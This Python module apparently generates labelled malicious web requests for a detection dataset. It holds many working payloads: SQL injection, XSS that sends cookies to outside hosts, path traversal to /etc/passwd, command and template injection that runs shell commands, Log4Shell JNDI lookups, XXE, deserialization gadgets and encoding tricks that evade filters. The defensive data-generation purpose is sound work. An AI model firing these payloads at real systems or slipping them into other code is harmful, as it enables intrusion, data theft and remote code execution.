"""Grammars of attacks on what an application does with a value: SQL, scripts, files, commands, templates, markup, plain and in disguise."""
# ruff: noqa: E501, PLR2004, S608, UP031 - these are attacks, and a payload is read as a whole

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import replace
from random import Random
from urllib.parse import quote

from vedette.learning.datasets.web_attack_words import (
    COMMAND,
    FILES,
    HEADER,
    LOOKUP,
    MARKUP,
    PROBE,
    SHELL,
    SQL,
    TEMPLATE,
    UNIX,
    WINDOWS,
    XSS,
    Pick,
    random_columns,
    random_command,
    random_host,
    random_word,
)
from vedette.learning.datasets.web_carrier import Request, beside, carried

_HAND_PATHS = tuple(
    (p, PROBE)
    for p in ("/.env", "/.git/config", "/phpmyadmin/", "/phpinfo.php", "/backup.zip", "/db.sql", "/wp-config.php.bak", "/server-status", "/actuator/env", "/manager/html", "/.htpasswd", "/web.config.bak", "/config.php~", "/.svn/entries", "/adminer.php", "/test.php", "/cgi-bin/test.cgi")
) + tuple((p, SHELL) for p in ("/uploads/shell.php?cmd=id", "/images/cmd.php?cmd=whoami", "/upload/x.jsp?c=ls", "/shell.php?exec=uname+-a", "/files/cmd.aspx?cmd=dir", "/c99.php"))  # fmt: skip


def manual(rng: Random) -> Request:
    """A tester with a browser: short probes, one after the other."""
    n = rng.randint(1, 20)
    picks: list[Callable[[], Pick]] = [
        lambda: (SQL, rng.choice(["'", '"', "')", "';", "1'", "' or '1'='1", "' OR 1=1--", "\" or \"\"=\"", "admin'--", "admin' #", "1 or 1=1", "1 OR 1=1#", "' or 'x'='x", "') or ('a'='a", "1' and '1'='2", "1 and 1=2", f"{n}' order by {n}--", f"{n} order by {n}", "'||'1", "1;select 1", "1' or sleep(3)#", "' union select 1,2,3-- -", "-1 union select user,password from users", "1) or (1=1", "' having 1=1--", "1/0", "'; drop table users;--", "x' and email is null; --", "' or true--", "1 && 1=1", "' and 1=convert(int,@@version)--", "1 and sleep(5)", "'+(select 1)+'", "1' waitfor delay '0:0:5'--"])),
        lambda: (XSS, rng.choice(["<script>alert(1)</script>", "\"><script>alert('x')</script>", "<img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "javascript:alert(1)", "\" onmouseover=\"alert(1)", "<b>test</b><script>prompt(1)</script>", "';alert(1);//", "<iframe src=javascript:alert(1)>", "<body onload=alert(document.cookie)>", "</title><script>alert(1)</script>", "<a href=\"javascript:alert(1)\">x</a>", "'-alert(1)-'", "\"-confirm(1)-\"", "<details open ontoggle=alert(1)>", "<script src=//h.example/x.js></script>", "<h1>hacked</h1><marquee>"])),
        lambda: (FILES, rng.choice(["../../../../etc/passwd", "/etc/passwd", "..\\..\\..\\windows\\win.ini", "../config.php", "....//....//etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "../" * rng.randint(2, 12) + rng.choice(UNIX), "C:\\boot.ini", "http://evil.example/shell.txt?", "../../../../etc/passwd%00", "..%2f..%2f..%2fetc%2fpasswd", "/proc/self/environ", "expect://id", "http://127.0.0.1:22", "http://169.254.169.254/latest/meta-data/"])),
        lambda: (COMMAND, rng.choice([";id", "| id", "&& whoami", "`id`", "$(id)", "; ls -la", "|cat /etc/passwd", "127.0.0.1; cat /etc/passwd", "127.0.0.1 && dir", "a|whoami", "& ping -n 5 127.0.0.1 &", "||id", ";sleep 5;", "$(sleep 5)", "%0aid", "\nid\n", "; phpinfo();", "127.0.0.1|type c:\\boot.ini", ";echo test123"])),
        lambda: (TEMPLATE, rng.choice(["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "${{7*7}}", "{{config}}", "{{self}}", "*{7*7}", "{{ ''.__class__ }}", "@(1+2)", "{7*7}", "${T(java.lang.Runtime)}", "{{constructor.constructor('alert(1)')()}}"])),
        lambda: (LOOKUP, f"${{jndi:{rng.choice(['ldap', 'rmi', 'dns'])}://{random_host(rng)}/{random_word(rng)}}}"),
        lambda: (MARKUP, rng.choice(["<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://h.example/x.dtd\">%p;]>", "<!--#exec cmd=\"id\"-->"])),
        lambda: (SQL, rng.choice(["*)(uid=*", "*)(&", "admin)(&)", "'] | //*", "' or count(/*)=1 or '", "{\"$gt\":\"\"}", "'; return true; var a='", "||1==1", "x' or name()='a"])),
        lambda: (HEADER, rng.choice(["x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://h.example", "a\r\n\r\n<html>x</html>"])),
    ]  # fmt: skip
    if rng.random() < 0.1:
        path, kind = rng.choice(_HAND_PATHS)
        return replace(carried(rng, kind, "1"), path=path.partition("?")[0], query=path.partition("?")[2] or None)
    kind, value = rng.choices(picks, [6, 4, 3, 3, 2, 1, 1, 1, 1])[0]()
    return beside(rng, kind, value) if rng.random() < 0.07 else carried(rng, kind, value, raw="%" in value)


def sqltool(rng: Random) -> Request:
    """A tool that walks through dialects of SQL with random names and numbers."""
    a, b, w = rng.randint(1000, 9999), rng.randint(1000, 9999), random_word(rng, 4, 4)
    head = rng.choice(["", str(a % 50), f"-{a}", w, f"{w}%"])
    quote_ = rng.choice(["", "", "'", "'", '"', "`"])
    close = rng.choice(["", "", ")", "))", ")))"])
    tail = rng.choice(
        ["-- -", "--", "#", "-- " + w, f" and {quote_}{w}{quote_}={quote_}{w}", ";--", "/*", " limit 1#", ""]
    )
    text = f"CHR({rng.randint(65, 122)})||CHR({rng.randint(65, 122)})||CHR({rng.randint(65, 122)})"
    middle = rng.choice(
        [
            f" AND {a}={a}", f" AND {a}={b}", f" OR {a}={a}", f" RLIKE (SELECT {a})", f" AND ASCII(SUBSTRING((SELECT DISTINCT(schema_name) FROM information_schema.schemata LIMIT {a % 9},1),{b % 20},1))>{a % 128}",
            f" UNION ALL SELECT {random_columns(rng)}", f" UNION SELECT {random_columns(rng)} FROM {rng.choice(['users', 'dual', 'information_schema.tables', 'all_tables', 'sysobjects', 'sqlite_master', 'pg_user', w])}",
            f" AND SLEEP({a % 9})", f" AND (SELECT {a} FROM (SELECT(SLEEP({a % 9})))x)", f";SELECT PG_SLEEP({a % 9})", f";WAITFOR DELAY '0:0:{a % 9}'", f" OR {a}=BENCHMARK({a}000,MD5('{w}'))", f" AND {a}=DBMS_PIPE.RECEIVE_MESSAGE({text},{a % 9})",
            f" AND {a}=CAST((SELECT version())::text AS NUMERIC)", f" AND {a}=CONVERT(INT,(SELECT CHAR(113)+CHAR(106)))", f" AND EXTRACTVALUE({a},CONCAT(0x5c,(SELECT user()),0x7e))", f" AND UPDATEXML(1,CONCAT(0x7e,database()),{b})", f" AND {a}=CTXSYS.DRITHSX.SN({a},({text}))",
            f" PROCEDURE ANALYSE(EXTRACTVALUE({a},CONCAT(0x5c,({w}))),1)", f" ORDER BY {a % 30}", f" GROUP BY {w} HAVING {a}={a}", f" LIMIT 1,1 INTO OUTFILE '/tmp/{w}.php'", f";INSERT INTO users VALUES({a},'{w}')", f";UPDATE users SET password='{w}' WHERE id={a}",
            f";DROP TABLE {w}", f";EXEC master..xp_cmdshell 'ping {random_host(rng)}'", f";DECLARE @x VARCHAR(99) SET @x={w}", f" AND EXISTS(SELECT * FROM {w})", f" AND (SELECT COUNT(*) FROM sysusers AS a,sysusers AS b)>{a}", f" OR (SELECT CHAR(65)||CHAR(66) FROM RDB$DATABASE)={w}",
            " AND 1=(SELECT 1 FROM PG_CATALOG.PG_TABLES LIMIT 1)", f" AND LENGTH(database())={a % 20}", f" AND MID(version(),1,1)={a % 9}", f" AND {a} BETWEEN 1 AND {b}", f" AND RANDOMBLOB({a}00000)", f" AND load_extension('//{random_host(rng)}/x')", f" AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x{a}71)) USING utf8)))", f" AND ELT({a}={a},{b})", f" AND MAKE_SET({a}={a},{b})", f" IN (SELECT {w} FROM {w})", " AND LOAD_FILE(0x2f6574632f706173737764)", f" AND UTL_INADDR.GET_HOST_ADDRESS('{random_host(rng)}')={a}",
        ]
    )  # fmt: skip
    value = f"{head}{quote_}{close}{middle}{tail}"
    value = value.lower() if rng.random() < 0.3 else value
    return carried(rng, SQL, value)


def xsstool(rng: Random) -> Request:
    """A tool that puts elements, attributes, events and calls together."""
    call = rng.choice(
        [
            "alert(1)",
            "alert(document.cookie)",
            "confirm`1`",
            "prompt(document.domain)",
            "eval(atob('YWxlcnQoMSk='))",
            "fetch('//%s')" % random_host(rng),
            "top['al'+'ert'](1)",
            "window.location='http://%s/?c='+document.cookie" % random_host(rng),
            "String.fromCharCode(88,83,83)",
            "(alert)(1)",
            "self[/*x*/'alert'](1)",
            "import('//%s')" % random_host(rng),
            "console.log(%d)" % rng.randint(1, 99),
            "document.write('<b>x</b>')",
            "setTimeout('alert(1)')",
            "alert.call(null,1)",
            "new Function`alert\\`1\\``",
        ]
    )
    event = rng.choice(
        [
            "onerror",
            "onload",
            "onclick",
            "onmouseover",
            "onfocus",
            "ontoggle",
            "onbegin",
            "onstart",
            "onpointerenter",
            "onanimationend",
            "onwheel",
            "oncut",
            "onpageshow",
            "onmouseenter",
            "onkeydown",
            "onauxclick",
        ]
    )
    tag = rng.choice(
        [
            "img",
            "svg",
            "body",
            "input",
            "video",
            "audio",
            "details",
            "marquee",
            "iframe",
            "object",
            "a",
            "div",
            "math",
            "select",
            "button",
            "x",
            "custom-tag",
            "style",
            "form",
            "textarea",
            "keygen",
            "image",
        ]
    )
    gap = rng.choice([" ", " ", "/", "\t", "\n", "%0c", "  "])
    attribute = rng.choice(
        ["", "src=x ", "src=1 ", "href=# ", "open ", "autofocus ", "id=x tabindex=1 ", "style=display:block "]
    )
    quote_ = rng.choice(["", '"', "'", "`"])
    code = f"&#{';&#'.join(str(ord(c)) for c in call)};" if rng.random() < 0.08 else call
    bodies = [
        f"<{tag}{gap}{attribute}{event}={quote_}{code}{quote_}>", f"<script>{call}</script>", f"<script{gap}src={quote_}//{random_host(rng)}/{random_word(rng)}.js{quote_}></script>", f"<ScRipT>{call}</sCripT>", f"<a href={quote_}javascript:{code}{quote_}>{random_word(rng)}</a>", f"<iframe src=javascript:{call}>",
        f"<object data=data:text/html;base64,{base64.b64encode(('<script>' + call + '</script>').encode()).decode()}>", f"<svg><script>{call}</script></svg>", f"<svg><animate onbegin={call} attributeName=x dur=1s>", f"javascript:{call}", f"java\nscript:{call}", f"<style>@import 'javascript:{call}';</style>", f"<div style={quote_}width:expression({call}){quote_}>", f"<meta http-equiv=refresh content='0;url=javascript:{call}'>",
        f"{quote_ or chr(34)}-{call}-{quote_ or chr(34)}", f"{quote_ or chr(39)};{call};//", f"\" {event}={call} x=\"", f"' {event}='{call}", f"</script><script>{call}</script>", f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{event}={call} )//%0D%0A//</stYle/</titLe/--!>\\x3csVg/<sVg/{event}={call}//>\\x3e", f"<<script>{call}//<</script>", f"<img \"\"\"><script>{call}</script>\">", f"<base href=javascript:/{call}//>", f"<link rel=import href=//{random_host(rng)}>", "<embed src=data:image/svg+xml;base64,PHN2Zz4=>", f"<form action=javascript:{call}><input type=submit>", f"<input autofocus {event}={call}>", f"<noscript><p title=\"</noscript><img src=x {event}={call}>\">", f"vbscript:msgbox({rng.randint(1, 9)})", f"data:text/html,<script>{call}</script>",
    ]  # fmt: skip
    before = rng.choice(["", "", '">', "'>", '"/>', "</textarea>", "--></style>", random_word(rng), "]]>", "%22%3E"])
    value = before + rng.choice(bodies)
    return beside(rng, XSS, value) if rng.random() < 0.08 else carried(rng, XSS, value, raw=before.startswith("%"))


def lister(rng: Random) -> Request:
    """A list of payloads fired at one parameter: files, wrappers and commands in all their spellings."""
    depth = rng.randint(1, 14)
    step = rng.choice(
        [
            "../",
            "..\\",
            "....//",
            "..../\\",
            "..;/",
            "%2e%2e/",
            "..%2f",
            "%2e%2e%2f",
            "..%5c",
            "%252e%252e%252f",
            "..%c0%af",
            "..%255c",
            ".././",
            "..//",
            "\\..\\",
            "/%2e%2e",
            "..%u2215",
            "..0x2f",
            "/..",
            "%c0%ae%c0%ae/",
        ]
    )
    file = rng.choice(UNIX + WINDOWS)
    end = rng.choice(["", "", "", "%00", "%00.jpg", ".html", "%2500", "?", "/."])
    sep = rng.choice(
        [
            ";",
            "|",
            "||",
            "&",
            "&&",
            "\n",
            "`",
            "$(",
            "%0a",
            ";;",
            "|;",
            "'|",
            '";',
            "';",
            '"|',
            "');",
            "\n\r",
            "a;",
            "x||",
            "1|",
            "^&",
            "{",
        ]
    )
    command = random_command(rng)
    after = {"`": "`", "$(": ")", "'|": "#", '";': '"', "{": "}"}.get(sep, rng.choice(["", ";", "|", "#", "&", "%0a"]))
    made: list[Callable[[], Request]] = [
        lambda: carried(rng, FILES, rng.choice(["", "/", "./", "/var/www/images/"]) + step * depth + file + end, raw=True),
        lambda: replace(carried(rng, FILES, "1"), path="/" + rng.choice(["", "images/", "cgi-bin/", "static/", "icons/", "download/"]) + step * depth + file + end, query=None),
        lambda: carried(rng, FILES, rng.choice(["php://filter/read=convert.base64-encode/resource={f}", "php://input", "data://text/plain;base64,PD9waHA=", "data:text/plain,<?php phpinfo()?>", "zip://{w}.zip#{w}", "phar://{w}.phar/{w}", "expect://{c}", "file:///{f}", "file://c:/{f}", "http://{h}/{w}.txt?", "http://{h}/{w}.php", "ftp://{h}/{w}.txt", "\\\\{h}\\share\\{w}", "gopher://{h}/_", "dict://127.0.0.1:11211/", "jar:http://{h}/{w}.jar!/", "//{h}/{w}", "http://[::1]/{w}", "http://0x7f000001/", "http://localhost:{n}/admin"]).format(f=file, w=random_word(rng), h=random_host(rng), c=command, n=rng.randint(20, 9999))),
        lambda: carried(rng, COMMAND, rng.choice(["", "", random_word(rng), "127.0.0.1", "1", "x.jpg"]) + sep + command + after, raw=False),
        lambda: carried(rng, COMMAND, rng.choice(["() { :;}; {c}", "() { :; }; /bin/bash -c '{c}'", "$(({n}*{n}))", "<?php system('{c}');?>", "<?php echo {n}*{n};", "system('{c}')", "phpinfo()", "eval(base64_decode('{w}'))", "${{@system({w})}}", "__import__('os').popen('{c}').read()", "exec('{c}')", "print(`{c}`)", "require('child_process').exec('{c}')", "<%eval request('{w}')%>", "assert($_POST[{w}])", "file_put_contents('{w}.php','x')", "{{${{phpinfo()}}}}", "open|{c}|", "ls${{IFS}}-la", "cat$IFS/etc/passwd", ";{{cat,/etc/passwd}}", "w'h'o'am'i|x", ";c\\at /etc/pas\\swd", "/???/c?t /etc/passwd;", "|cat</etc/passwd"]).replace("{{", "\0").replace("}}", "\1").replace("{c}", command).replace("{n}", str(rng.randint(2, 999))).replace("{w}", random_word(rng)).replace("\0", "{").replace("\1", "}")),
    ]  # fmt: skip
    return rng.choices(made, [4, 3, 4, 5, 4])[0]()


def templater(rng: Random) -> Request:
    """Somebody who knows template engines, expression languages, parsers and logging libraries."""
    command, a, b, w, h = (
        random_command(rng),
        rng.randint(2, 999),
        rng.randint(2, 999),
        random_word(rng),
        random_host(rng),
    )
    texts: list[Pick] = [
        *((TEMPLATE, t) for t in (
            f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a} * {b} %>", f"#{{{a}*{b}}}", f"{{{{ {a}*'{b}' }}}}", f"#set($x={a}*{b})${{x}}", f"{{%if {a}=={a}%}}{w}{{%endif%}}", f"@({a}*{b})", f"*{{{a}+{b}}}", f"${{{{{a}*{b}}}}}", f"[[${{{a}*{b}}}]]", f"~{{{a}*{b}}}", f"%{{{a}*{b}}}",
            "{{''.__class__.__mro__[1].__subclasses__()[%d]('%s',shell=True)}}" % (a, command), "{{config.__class__.__init__.__globals__['os'].popen('%s').read()}}" % command, "{{request.application.__globals__.__builtins__.__import__('os').popen('%s')}}" % command, "{{lipsum.__globals__['os'].popen('%s').read()}}" % command, "{{cycler.__init__.__globals__.os.popen('%s')}}" % command, "{{request|attr('application')|attr('__globals__')}}", "{%% for c in [].__class__.__base__.__subclasses__() %%}{{c.__name__}}{%% endfor %%}" % (),
            "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('%s')}}" % command, "{{['%s']|filter('system')}}" % command, "{{['%s',1]|sort('passthru')|join}}" % w, "{php}system('%s');{/php}" % command, "{system('%s')}" % command, "{$smarty.version}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,'%s',self::clearConfig())}" % w,
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"%s\")}" % command, "${\"freemarker.template.utility.Execute\"?new()(\"%s\")}" % command, "#set($e=\"e\");$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"%s\")" % command, "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"%s\")" % command,
            "${T(java.lang.Runtime).getRuntime().exec('%s')}" % command, "T(java.lang.Runtime).getRuntime().exec(\"%s\")" % command, "%%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='%s').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}" % command, "${(#a=@java.lang.Runtime@getRuntime().exec('%s'))}" % command, "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('%s')}" % w, "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
            "<%%= system('%s') %%>" % command, "<%%= File.open('/etc/passwd').read %%>" % (), "#{`%s`}" % command, "= `%s`" % command, "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('%s')}}" % command, "#{root.process.mainModule.require('child_process').spawnSync('%s')}" % command, "{{#with \"s\" as |string|}}{{lookup string.sub \"constructor\"}}{{/with}}", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"%s\").getInputStream()).next()}__::.x" % command, "{{ self._TemplateReference__context.joiner.__init__.__globals__.os }}", "{{ get_flashed_messages.__globals__ }}", "{{url_for.__globals__['current_app'].config}}",
        )),
        *((LOOKUP, t) for t in (
            f"${{jndi:ldap://{h}/{w}}}", f"${{jndi:rmi://{h}/{w}}}", f"${{jndi:ldap://{h}/Basic/Command/Base64/{base64.b64encode(command.encode()).decode()}}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{h}/{w}}}", f"${{${{lower:j}}ndi:${{lower:l}}dap://{h}/{w}}}", f"${{${{env:{w.upper()}:-j}}ndi${{env:X:-:}}ldap://{h}/a}}", f"${{jndi:dns://${{hostName}}.{h}/{w}}}", f"${{${{upper:j}}${{upper:n}}${{lower:d}}i:ldap://{h}}}", f"${{jn${{lower:d}}i:l${{lower:d}}ap://{h}/x}}", f"${{jndi:ldaps://{h}:636/${{sys:java.version}}}}", f"${{j${{k8s:k5:-ND}}i:ldap://{h}/}}", f"${{${{date:'j'}}${{date:'n'}}di:ldap://{h}/z}}", f"${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{h}/{w}}}", "${env:AWS_SECRET_ACCESS_KEY}", f"${{jndi:iiop://{h}/{w}}}", f"${{script:javascript:java.lang.Runtime.getRuntime().exec('{command}')}}", f"${{url:UTF-8:http://{h}/}}", f"${{dns:address|{h}}}",
        )),
        *((MARKUP, t) for t in (
            f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE {w} [<!ENTITY {w} SYSTEM \"file:///etc/passwd\">]><a>&{w};</a>", f"<!DOCTYPE a [<!ENTITY % d SYSTEM \"http://{h}/{w}.dtd\"> %d;]>", f"<!ENTITY {w} PUBLIC \"x\" \"php://filter/read=convert.base64-encode/resource=/etc/hosts\">", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></x>", f"<!--#exec cmd=\"{command}\" -->", "<!--#include virtual=\"/etc/passwd\" -->", f"O:8:\"stdClass\":1:{{s:4:\"{w}\";i:1;}}", f"rO0ABXNyABF{base64.b64encode(w.encode()).decode()}", f"!!python/object/apply:os.system ['{command}']", f"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{h}\"]]]]", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://%s/x\"}" % h, "{\"__proto__\":{\"admin\":true}}",
        )),
    ]  # fmt: skip
    kind, value = rng.choice(texts)
    if rng.random() < 0.1 and kind == SQL:
        return beside(rng, kind, value)
    outside = 0.35 if kind == LOOKUP else 0.08
    return beside(rng, kind, value) if rng.random() < outside else carried(rng, kind, value)


def documents(rng: Random) -> Request:
    """Somebody who attacks what is asked in other languages than SQL: document databases, directories, XML paths; and headers."""
    w, h = random_word(rng), random_host(rng)
    way = rng.randint(0, 9)
    if way < 4:
        field = rng.choice(["user", "password", "name", "id", "email"])
        operator = rng.choice(["$ne", "$gt", "$regex", "$nin", "$exists", "$gte", "$where"])
        return replace(
            carried(rng, SQL, w),
            query=rng.choice(
                [
                    f"{field}[{operator}]={w}",
                    f"{field}%5B{operator}%5D=",
                    f"{field}={quote(chr(123) + chr(34) + operator + chr(34) + ':' + chr(34) + chr(34) + chr(125))}",
                    f"{field}[{operator}]=.*&pass[$ne]=1",
                    f"q={quote(chr(39) + '; return true; var x=' + chr(39))}",
                    f"id={quote(chr(39) + ' || 1==1 || ' + chr(39))}",
                    f"f={quote(chr(36) + 'where: this.a == 1 || sleep(5000)')}",
                ]
            ),
        )
    if way < 6:
        return carried(
            rng,
            SQL,
            rng.choice(
                [
                    "*)(uid=*))(|(uid=*",
                    "*)(&",
                    f"{w})(&)",
                    f"{w}*)(objectClass=*",
                    "*()|%26'",
                    "admin)(!(&(1=0",
                    f"*)(cn={w}*",
                    "*))%00",
                    f"{w})(|(password=*))",
                ]
            ),
            raw=False,
        )
    if way < 8:
        return carried(
            rng,
            SQL,
            rng.choice(
                [
                    "' or '1'='1' or ''='",
                    f"' or count(/*)=1 or '{w}'='",
                    f"x' or name()='{w}' or 'x'='y",
                    "'] | //* | //*['",
                    f"1 or contains(name,'{w}')",
                    f"' or string-length(name(parent::*))>{rng.randint(1, 9)} or '",
                ]
            ),
        )
    return carried(
        rng,
        HEADER,
        rng.choice(
            [
                f"{w}\r\nSet-Cookie: {w}=1",
                f"{w}\r\nLocation: http://{h}/",
                "\r\n\r\n<script>alert(1)</script>",
                "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
                f"\nbcc: {w}@{h}",
                f"{w}\r\nX-{w}: 1",
                f"/%0d%0aRefresh: 0;url={h}",
            ]
        ),
    )


def evader(rng: Random) -> Request:
    """A person who hides plain attacks from filters: encodings upon encodings, comments, case, odd blanks."""
    base = rng.choice([manual, sqltool, xsstool, lister])
    made = base(rng)
    kind = made.kind
    value = rng.choice([
        (SQL, f"{rng.randint(1, 99)}' union select {random_columns(rng)} from users-- -"), (SQL, f"' or {rng.randint(1, 9)}={rng.randint(1, 9)} #"), (SQL, f"1 and sleep({rng.randint(1, 9)})"), (SQL, "admin' and substr(password,1,1)='a"), (XSS, f"<img src=x onerror=alert({rng.randint(1, 9)})>"), (XSS, "<script>alert(document.domain)</script>"), (XSS, "<svg/onload=confirm(1)>"),
        (FILES, "../" * rng.randint(2, 8) + rng.choice(UNIX)), (FILES, "..\\" * rng.randint(2, 8) + rng.choice(WINDOWS)), (COMMAND, f";{random_command(rng)}"), (COMMAND, f"$({random_command(rng)})"), (COMMAND, f"|{random_command(rng)}|"), (TEMPLATE, "{{7*7}}"), (LOOKUP, f"${{jndi:ldap://{random_host(rng)}/a}}"),
    ])  # fmt: skip
    kind, text = value
    if kind == SQL:
        blank = rng.choice(["/**/", "/*!*/", "%09", "%0a", "%0b", "%0c", "+", "%a0", "/*x*/", "%23%0a", "--%0a"])
        text = quote(text, safe="'(),=*@").replace("%20", blank)
        text = (
            text.replace("union", rng.choice(["UnIoN", "/*!50000union*/", "uNiOn", "%55nion", "union"]))
            .replace("select", rng.choice(["SeLeCt", "/*!select*/", "sel%65ct", "select"]))
            .replace("'", rng.choice(["'", "%27", "%2527", "%u0027", "%ef%bc%87"]))
        )
        return carried(rng, kind, text, raw=True)
    ways: list[Callable[[str], str]] = [
        lambda s: "".join(f"%{ord(c):02x}" for c in s), lambda s: "".join(f"%25{ord(c):02X}" for c in s), lambda s: quote(quote(s, safe=""), safe=""), lambda s: "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in s), lambda s: quote(quote(quote(s, safe=""), safe=""), safe=""),
        lambda s: quote("".join(f"\\u{ord(c):04x}" if c in "<>'\"()" else c for c in s), safe=""), lambda s: quote("".join(f"&#x{ord(c):x};" if c in "<>'\"()=:" else c for c in s), safe=""), lambda s: quote("".join(chr(ord(c) + 0xFEE0) if c in "<>'\"();|./" else c for c in s), safe=""), lambda s: quote("".join(c.upper() if rng.random() < 0.5 else c for c in s), safe=""), lambda s: quote(base64.b64encode(s.encode()).decode(), safe=""), lambda s: quote(s.replace(" ", rng.choice(["\t", "${IFS}", "$IFS$9", "\n"])), safe=""),
        lambda s: quote(s, safe="").replace("%2F", rng.choice(["%c0%af", "%252f", "%c1%9c", "%e0%80%af"])).replace("..", rng.choice(["..", "%2e%2e", "%c0%ae%c0%ae", ".%2e"])),
    ]  # fmt: skip
    return carried(rng, kind, rng.choice(ways)(text), raw=True)
